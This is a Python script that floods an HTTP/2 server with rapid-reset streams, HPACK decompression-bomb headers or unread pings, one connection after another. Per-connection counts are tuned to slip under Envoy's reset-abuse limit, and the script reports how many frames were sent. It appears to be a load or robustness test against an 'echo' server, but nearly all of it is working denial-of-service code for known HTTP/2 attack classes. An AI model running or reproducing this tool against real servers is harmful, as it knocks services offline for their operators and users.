"""Floods a server of HTTP/2 with one kind of frames, on one connection after the other: ADDRESS PORT KIND COUNT.

Kinds: `reset`, streams that are begun and reset at once; `bomb`, streams whose headers are small on the wire and 47 MB
when they are decoded; `ping`, pings whose answers are not read. Stops after COUNT of them, or after 30 seconds. Prints
one line of JSON: how many were sent, on how many connections. Of streams those count that the server has dealt with:
it has answered a ping that came after them.
"""

import json
import socket
import struct
import sys
import time
from itertools import count

SECONDS = 30.0
BATCH = 50
# Envoy closes a connection when most of its first 500 streams were reset.
PER_CONNECTION = {"reset": 450, "bomb": 450, "ping": 1_000_000}
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END = 4 | 1  # END_HEADERS, END_STREAM
ACK = 1
CANCEL = struct.pack("!I", 8)
# RFC 7541: GET, http, / by the static table, and an authority that is not indexed.
REQUEST = b"\x82\x86\x84\x01\x04echo"
# A header of 3900 bytes that is indexed, and then named twelve thousand times by its index.
BOMB = REQUEST + b"\x40\x01x\x7f\xbd\x1d" + b"a" * 3900 + b"\xbe" * 12_000


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def reset(stream):
    return frame(HEADERS, END, stream, REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)


def bomb(stream):
    return frame(HEADERS, END, stream, BOMB)


def ping(stream):
    return frame(PING, 0, 0, struct.pack("!Q", stream))


def dealt_with(made, stream):
    """Whether the server is still there when it has read everything."""
    made.sendall(ping(0))
    while len(head := stream.read(9)) == 9:
        stream.read(int.from_bytes(head[:3], "big"))
        if head[3:5] == bytes((PING, ACK)):
            return True
    return False


def one_connection(address, kind, wanted, deadline):
    """How many were sent before this side or the server ended the connection."""
    sent, numbers = 0, count(1, 2)
    with socket.socket() as made, made.makefile("rb") as stream:
        made.settimeout(5)
        if kind == "ping":
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.connect(address)
        made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        try:
            while sent < min(wanted, PER_CONNECTION[kind]) and time.monotonic() < deadline:
                made.sendall(b"".join(MAKE[kind](next(numbers)) for _ in range(BATCH)))
                if kind != "ping" and not dealt_with(made, stream):
                    break
                sent += BATCH
        except OSError:
            pass
    return sent


MAKE = {"reset": reset, "bomb": bomb, "ping": ping}


def main():
    address, port, kind, wanted = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    sent, connections, deadline = 0, 0, time.monotonic() + SECONDS
    while sent < wanted and time.monotonic() < deadline:
        sent += one_connection((address, port), kind, wanted - sent, deadline)
        connections += 1
    print(json.dumps({"sent": sent, "connections": connections}))


main()
